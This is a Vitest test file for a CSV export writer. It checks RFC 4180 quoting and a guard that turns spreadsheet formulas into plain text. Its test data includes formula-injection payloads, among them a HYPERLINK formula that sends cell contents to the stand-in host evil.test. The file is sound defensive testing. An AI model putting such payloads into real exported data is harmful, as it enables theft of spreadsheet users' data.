/** Tables as text: RFC 4180, and nothing that a spreadsheet would run. */

import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvHead, csvRow } from "../../src/http/management/list/csv.ts";
import { parseCsv } from "../support/csv.ts";

function written(value: unknown): string {
  return csvRow(["member"])({ member: value });
}

function readBack(value: unknown): string | undefined {
  return parseCsv(`${csvRow(["first", "member", "last"])({ first: "1", member: value, last: "2" })}\r\n`)[0]?.[1];
}

describe("a cell", () => {
  it.each([
    ["a text", "Acme Ltd.", "Acme Ltd."],
    ["a comma", "Acme, Ltd.", '"Acme, Ltd."'],
    ["a quote", 'the "big" one', '"the ""big"" one"'],
    ["a line end inside", "one\r\ntwo", '"one\r\ntwo"'],
    ["white space around", " a ", '" a "'],
    ["nothing", null, ""],
    ["a void member", undefined, ""],
    ["a truth", true, "true"],
    ["a list of texts", ["DE", "FR"], '"DE, FR"'],
    ["an empty list", [], ""],
    ["a list of things", [{ key: "a", value: "=1" }], '"[{""key"":""a"",""value"":""=1""}]"'],
  ])("has %s by RFC 4180", (_, value, expected) => {
    expect(written(value)).toBe(expected);
  });

  it.each([
    '=HYPERLINK("http://evil.test?"&A1,"Click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\rx",
    "\nx",
    "  =1",
    "\u00A0=1",
    "\u3000=1",
    "\uFEFF=1",
    "\u200B=1",
    "\u0000=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
  ])("that would be a formula is a text: %j", (value) => {
    expect(readBack(value)).toBe(`'${value}`);
    expect(readBack([value])).toBe(`'${value}`);
  });

  it.each([-1, 0, 1.5, 1e21])("that is a number of ours stays one: %j", (value) => {
    expect(written(value)).toBe(String(value));
  });

  it("is read back as it was, whatever it was, but for the guard", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (value) => {
        const read = readBack(value);
        expect([value, `'${value}`]).toContain(read);
        expect(read).not.toMatch(/^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
      }),
      { numRuns: 1_000 },
    );
  });
});

it("a row has the members of members, and those of a member that is void are empty", () => {
  const row = csvRow(["id", "user.email", "user.name"]);
  expect(row({ id: "1", user: { email: "a@b.test", name: "A" } })).toBe("1,a@b.test,A");
  expect(row({ id: null, user: null })).toBe(",,");
  expect(csvHead(["id", "user.email"])).toBe("id,user.email");
});
